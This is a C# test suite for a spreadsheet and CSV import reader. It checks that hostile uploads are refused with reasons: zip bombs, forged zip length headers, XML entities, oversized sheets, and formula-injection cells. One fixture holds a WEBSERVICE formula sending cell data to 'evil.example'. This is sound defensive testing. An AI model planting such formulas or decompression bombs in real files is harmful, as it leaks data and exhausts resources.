using System.IO.Compression;
using System.Text;
using CsvHelper;
using CsvHelper.Configuration;
using FsCheck;
using FsCheck.Fluent;
using ServiceDirectory.Core.Import;
using ServiceDirectory.Tests.Infrastructure;

namespace ServiceDirectory.Tests.Import;

/// <summary>Any list is read, and no file does harm: each that cannot be read is refused with a reason, in little memory.</summary>
public sealed class SheetReaderTests
{
    private static Sheet Read(string text) => SheetReader.Read(Encoding.UTF8.GetBytes(text));

    private static SheetException Refused(byte[] file) => Assert.Throws<SheetException>(() => SheetReader.Read(file));

    private static SheetException Refused(string text) => Refused(Encoding.UTF8.GetBytes(text));

    [Theory]
    [InlineData("Name,Town\nMill Clinic,Leeds\n")]
    [InlineData("Name;Town\r\nMill Clinic;Leeds\r\n")]
    [InlineData("Name\tTown\rMill Clinic\tLeeds")]
    [InlineData("Name|Town\n\"Mill Clinic\"|\" Leeds \"")]
    [InlineData("sep=;\nName;Town\nMill Clinic;Leeds\n")]
    [InlineData("Our list\n\nName,Town\nMill Clinic,Leeds\n")]
    public void Csv_AnySignBetween_IsFound(string text)
    {
        var sheet = Read(text);
        Assert.Equal(["Name", "Town"], sheet.Headers);
        Assert.Equal(["Mill Clinic", "Leeds"], Assert.Single(sheet.Rows).Cells);
    }

    [Theory]
    [InlineData("utf-8", true, false)]
    [InlineData("utf-8", false, false)]
    [InlineData("utf-16", true, false)]
    [InlineData("utf-16BE", true, false)]
    [InlineData("windows-1252", false, true)]
    public void Csv_Letters_AreRead_AndAGuessIsSaid(string name, bool marked, bool isGuess)
    {
        var encoding = name == "windows-1252" ? CodePagesEncodingProvider.Instance.GetEncoding(1252)! : Encoding.GetEncoding(name);
        byte[] file = [.. marked ? encoding.GetPreamble() : [], .. encoding.GetBytes("Nombre,Ciudad\nSalud Sí,Cádiz\n")];
        var sheet = SheetReader.Read(file);
        Assert.Equal(["Salud Sí", "Cádiz"], Assert.Single(sheet.Rows).Cells);
        Assert.Equal(isGuess, sheet.IsGuess);
    }

    [Fact]
    public void Csv_RowsThatCannotBeRead_AreNamed_AndTheOthersAreThere()
    {
        var sheet = Read("Name,Town\nA,B\n5\" pipe,C\nD,E,F\n\nG,\u202eH\nI,\"J\nK\"\nL,\"M\n");
        Assert.Equal([2, 7], sheet.Rows.Select(row => row.Number));
        Assert.Equal("J\nK", sheet.Rows[1].Cells[1]);
        Assert.Equal(
            [new UnreadRow(3, SheetFault.Quote), new UnreadRow(4, SheetFault.MoreCells), new UnreadRow(6, SheetFault.HiddenSign), new UnreadRow(8, SheetFault.OpenQuote)],
            sheet.Unread);
    }

    public static TheoryData<string, byte[], SheetFault, int?> Hostile => new()
    {
        { "nothing", [], SheetFault.Empty, null },
        { "space", "  \n\n"u8.ToArray(), SheetFault.Empty, null },
        { "headers only", "Name,Town\n"u8.ToArray(), SheetFault.NoRows, null },
        { "9 MB", new byte[(8 * 1024 * 1024) + 1], SheetFault.TooLarge, null },
        { "5,001 rows", Encoding.UTF8.GetBytes("Name,Town\n" + string.Concat(Enumerable.Repeat("a,b\n", 5_001))), SheetFault.TooManyRows, 5_002 },
        { "5,001 bad rows", Encoding.UTF8.GetBytes("Name,Town\n" + string.Concat(Enumerable.Repeat("a,b,c\n", 5_001))), SheetFault.TooManyRows, 5_002 },
        { "eight million empty rows", Encoding.UTF8.GetBytes("Name,Town\n" + new string('\n', 8_000_000)), SheetFault.TooManyRows, 50_001 },
        { "101 columns", Encoding.UTF8.GetBytes("Name,Town\n" + string.Join(',', Enumerable.Repeat("x", 101))), SheetFault.TooManyColumns, 2 },
        { "eight million columns", Encoding.UTF8.GetBytes("Name,Town\na,b\n" + new string(',', 8_000_000)), SheetFault.TooManyColumns, 3 },
        { "a long cell", Encoding.UTF8.GetBytes("Name,Town\na," + new string('x', 10_001)), SheetFault.CellTooLong, 2 },
        { "a PDF", "%PDF-1.7\n%"u8.ToArray(), SheetFault.NotASheet, null },
        { "a page", "<!doctype html><table>"u8.ToArray(), SheetFault.NotASheet, null },
        { "bytes", [1, 2, 0, 3, 255, 0], SheetFault.NotASheet, null },
        { "UTF-8 that says so and is not", [0xEF, 0xBB, 0xBF, (byte)'a', (byte)',', 0xFF, (byte)'\n', (byte)'b'], SheetFault.WrongLetters, null },
        { "UTF-32", [0xFF, 0xFE, 0, 0, 0x61, 0, 0, 0], SheetFault.WrongLetters, null },
        { "an old Excel file", [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, 0, 0], SheetFault.OldExcel, null },
        { "a password", [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. Encoding.Unicode.GetBytes("EncryptedPackage")], SheetFault.Password, null },
        { "half a zip", "PK\u0003\u0004abcdefgh"u8.ToArray(), SheetFault.Broken, null },
        { "a zip of something", Workbook.Zip(("readme.txt", "x")), SheetFault.NotASheet, null },
        { "LibreOffice", Workbook.Zip(("mimetype", "application/vnd.oasis.opendocument.spreadsheet")), SheetFault.OpenDocument, null },
        { "a bomb", Workbook.Zip([.. Workbook.Parts(Workbook.Sheet("")), ("xl/media/x.bin", new string('0', 60_000_000))]), SheetFault.TooMuchInside, null },
        { "many parts", Workbook.Zip([.. Workbook.Parts(Workbook.Sheet("")), .. Enumerable.Range(0, 1_001).Select(i => ($"x{i}", "x"))]), SheetFault.TooMuchInside, null },
        { "ten million rows", Workbook.Zip([.. Workbook.Parts(Workbook.Sheet("<row r=\"10000000\"><c r=\"A10000000\"><v>1</v></c></row>"))]), SheetFault.TooManyRows, 10_000_000 },
        { "a column far away", Workbook.Zip([.. Workbook.Parts(Workbook.Sheet("<row r=\"1\"><c r=\"ZZZZZZ1\"><v>1</v></c></row>"))]), SheetFault.TooManyColumns, null },
        { "an entity", Workbook.Zip([.. Workbook.Parts("<!DOCTYPE x [<!ENTITY a \"aaaa\">]><worksheet><sheetData><row><c t=\"str\"><v>&a;</v></c></row></sheetData></worksheet>")]), SheetFault.Broken, null },
        { "no sheet inside", Workbook.Zip(("xl/workbook.xml", "<workbook/>")), SheetFault.Empty, null },
    };

    [Theory]
    [MemberData(nameof(Hostile), DisableDiscoveryEnumeration = true)]
    public void Hostile_IsRefusedWithAReason_InLittleMemory(string what, byte[] file, SheetFault fault, int? row)
    {
        long before = GC.GetAllocatedBytesForCurrentThread();
        var refused = Refused(file);
        Assert.Equal((what, fault, row), (what, refused.Fault, refused.Row));
        Assert.True(GC.GetAllocatedBytesForCurrentThread() - before < 200_000_000, $"{what} took {GC.GetAllocatedBytesForCurrentThread() - before:N0} bytes.");
    }

    /// <summary>The file says that little is in it, and much comes out.</summary>
    [Fact]
    public void Bomb_ThatSaysItIsSmall_IsFoundWhileItIsRead()
    {
        byte[] file = Workbook.Zip([.. Workbook.Parts(Workbook.Sheet("")), ("xl/media/x.bin", new string('0', 60_000_000))]);
        // Every place where the length stands, in the local and the central header.
        var length = BitConverter.GetBytes(60_000_000);
        for (int at = 0; (at = file.AsSpan(at).IndexOf(length) is >= 0 and var found ? at + found : -1) >= 0; at += 4)
            BitConverter.GetBytes(10).CopyTo(file, at);
        Assert.Contains(Try(file)?.Fault, new SheetFault?[] { SheetFault.TooMuchInside, SheetFault.Broken, SheetFault.Empty });
    }

    [Fact]
    public void Xlsx_IsReadAsAPersonSeesIt_AndAFormulaByItsStoredValue()
    {
        var sheet = SheetReader.Read(Workbook.Zip([.. Workbook.Parts(Workbook.Sheet(
            """
            <row r="1"><c r="A1" t="inlineStr"><is><t>Name</t></is></c><c r="B1" t="inlineStr"><is><t>Phone</t></is></c></row>
            <row r="3"><c r="A3" t="str"><f>WEBSERVICE("https://evil.example/"&amp;B3)</f><v>Mill Clinic</v></c><c r="B3"><v>441134960000</v></c></row>
            <row r="4"><c r="A4" t="inlineStr"><is><t>=1+1</t></is></c><c r="B4"><f>1+1</f></c></row>
            """))]));
        Assert.Equal([3, 4], sheet.Rows.Select(row => row.Number));
        Assert.Equal(["Mill Clinic", "441134960000"], sheet.Rows[0].Cells);
        Assert.Equal(["=1+1", ""], sheet.Rows[1].Cells);
    }

    /// <summary>Whatever is sent, it is read or refused.</summary>
    [Fact]
    public void AnyBytes_AreReadOrRefused()
    {
        byte[] good = Workbook.Zip([.. Workbook.Parts(Workbook.Sheet("<row r=\"1\"><c r=\"A1\"><v>1</v></c><c r=\"B1\"><v>2</v></c></row>"))]);
        Check.One(Config.QuickThrowOnFailure.WithMaxTest(FullRun.IsAsked ? 2_000 : 200), Prop.ForAll((byte[] bytes, bool isText, int at) =>
        {
            Try(isText ? [.. "a,b\n"u8, .. bytes] : bytes);
            // A real file with some bytes changed.
            byte[] changed = [.. good];
            for (int i = 0; i < bytes.Length; i++)
                changed[(int)(((uint)at + (uint)(i * 37)) % changed.Length)] ^= bytes[i];
            Try(changed);
            return true;
        }));
    }

    /// <summary>What is written is read again, cell by cell, and a spreadsheet sees only text.</summary>
    [Fact, Property(38)]
    public void Cells_ComeBackAsTheyWere_AndNoneBeginsAFormula()
    {
        var cell = Gen.Elements("=1+1", "+44", "-1", "@x", "'=1", "''+", "'", "a\"b", "x,y;z", "two\nlines", "\"", "'quoted'", "＝1", "plain", "", "é ș ع", "=\"\"")
            .Zip(ArbMap.Default.GeneratorFor<NonNull<string>>().Select(text => text.Get), (one, other) => one + other).Or(Gen.Elements("=1+1", "+44", "", "x"));
        Check.One(Config.QuickThrowOnFailure.WithMaxTest(FullRun.IsAsked ? 2_000 : 300), Prop.ForAll(Arb.From(Gen.ArrayOf(cell, 3)), cells =>
        {
            string[] kept = [.. cells.Select(text => SheetText.Clean(text, 1) ?? "x").Select((text, at) => at == 0 && text.Length == 0 ? "x" : text)];
            byte[] written = CsvForPeople.Write([["One", "Two", "Three"], kept]);
            using var other = new CsvParser(new StringReader(Encoding.UTF8.GetString(written)), System.Globalization.CultureInfo.InvariantCulture);
            while (other.Read())
                Assert.All(other.Record!, text => Assert.False(text.Length > 0 && "=+-@\t\r".Contains(text[0], StringComparison.Ordinal), text));
            Assert.Equal(kept, Assert.Single(SheetReader.Read(written).Rows).Cells);
        }));
    }

    /// <summary>In many countries a spreadsheet ends a cell at a semicolon, some at a tab, and takes our quotation marks for letters then.</summary>
    [Fact, Property(38)]
    public void Cells_BeginNoFormula_WhereverASpreadsheetSplits()
    {
        var part = Gen.Elements("=1+1", "+44", "-1", "@x", "=HYPERLINK(\"https://x\")", ";", "\t", "\n", "\r\n", "'", "\"", ",", "x", " ", "＝1", "");
        Check.One(Config.QuickThrowOnFailure.WithMaxTest(FullRun.IsAsked ? 5_000 : 500), Prop.ForAll(Arb.From(Gen.ArrayOf(Gen.ListOf(part, 7).Select(string.Concat), 3)), cells =>
        {
            Assert.All(cells, cell => Assert.Equal(cell, SafeCell.Undo(SafeCell.Do(cell))));
            string written = Encoding.UTF8.GetString(CsvForPeople.Write([cells]))[1..];
            foreach (char sign in ",;\t")
            {
                using var parser = new CsvParser(new StringReader(written), new CsvConfiguration(System.Globalization.CultureInfo.InvariantCulture) { Delimiter = sign.ToString(), BadDataFound = null });
                while (parser.Read())
                    Assert.All(parser.Record!, text => Assert.False(IsFormula(text), $"{sign} {text}"));
            }

            // And by a program that knows no quotation marks but at the beginning of a cell.
            Assert.All(written.Split(';', '\t', '\r', '\n'), text => Assert.False(IsFormula(text.TrimStart('"')), text));
        }));
    }

    private static bool IsFormula(string text) => text.Length > 0 && "=+-@＝＋－＠".Contains(text[0], StringComparison.Ordinal);

    /// <summary>A file of a few hundred bytes that names the last cell there can be, or one long text in all cells.</summary>
    [Theory]
    [InlineData("<row r=\"1\"><c r=\"A1\"><v>1</v></c><c r=\"B1\"><v>2</v></c></row><row r=\"50000\"><c r=\"XFD50000\"><v>3</v></c></row>", SheetFault.TooManyColumns)]
    [InlineData("<row r=\"1\"><c r=\"A1\"><v>1</v></c><c r=\"B1\"><v>2</v></c></row><row r=\"50000\"><c r=\"XFD50000\"/></row>", SheetFault.TooManyColumns)]
    [InlineData("<row r=\"1\"><c r=\"A1\"><v>1</v></c><c r=\"GV1\"><v>2</v></c></row>", SheetFault.TooManyColumns)]
    [InlineData("<row r=\"1\"><c r=\"A1\"><v>1</v></c><c r=\"B1\"><v>2</v></c><c r=\"ZZ1\"/></row><row r=\"2\"><c r=\"A2\"><v>3</v></c></row>", null)]
    public void Xlsx_WithCellsFarOut_IsRefusedBeforeTheyAreRead(string rows, SheetFault? fault) =>
        Assert.Equal(fault, Try(Workbook.Zip([.. Workbook.Parts(Workbook.Sheet(rows))]))?.Fault);

    [Fact]
    public void Xlsx_OfOneRowWithoutEnd_IsRefused() => Assert.Equal(
        SheetFault.TooManyColumns,
        Try(Workbook.Zip([.. Workbook.Parts(Workbook.Sheet($"<row>{string.Concat(Enumerable.Repeat("<c/>", 1_001))}</row>"))]))?.Fault);

    /// <summary>How many cells are looked at is counted, and no time: those of 200 columns, however many are painted.</summary>
    [Fact]
    public void Rows_OfManyLongCells_EndBeforeTheyFillTheMemory()
    {
        var rows = new SheetRows();
        rows.Add(1, ["One", "Two"]);
        string text = new('x', SheetLimits.Cell);
        int taken = 0;
        var refused = Assert.Throws<SheetException>(() =>
        {
            for (int number = 2; number <= SheetLimits.Rows; number++, taken++)
                rows.Add(number, [text, text]);
        });
        Assert.Equal(SheetFault.TooMuchInside, refused.Fault);
        Assert.InRange(taken, 100, 1_000);
    }

    private static SheetException? Try(byte[] file)
    {
        try
        {
            SheetReader.Read(file);
            return null;
        }
        catch (SheetException refused)
        {
            return refused;
        }
    }
}

/// <summary>XLSX files by hand, so that they can be wrong.</summary>
internal static class Workbook
{
    public static string Sheet(string rows) =>
        $"<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData>{rows}</sheetData></worksheet>";

    public static IEnumerable<(string Name, string Text)> Parts(string sheet) =>
    [
        ("[Content_Types].xml", "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"/>"),
        ("_rels/.rels",
            "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"r1\" "
            + "Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" Target=\"xl/workbook.xml\"/></Relationships>"),
        ("xl/workbook.xml",
            "<workbook xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\">"
            + "<sheets><sheet name=\"List\" sheetId=\"1\" r:id=\"r1\"/></sheets></workbook>"),
        ("xl/_rels/workbook.xml.rels",
            "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"r1\" "
            + "Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet\" Target=\"worksheets/sheet1.xml\"/></Relationships>"),
        ("xl/worksheets/sheet1.xml", sheet),
    ];

    public static byte[] Zip(params (string Name, string Text)[] parts)
    {
        using var bytes = new MemoryStream();
        using (var archive = new ZipArchive(bytes, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (var (name, text) in parts)
            {
                using var part = new StreamWriter(archive.CreateEntry(name).Open());
                part.Write(text);
            }
        }

        return bytes.ToArray();
    }
}
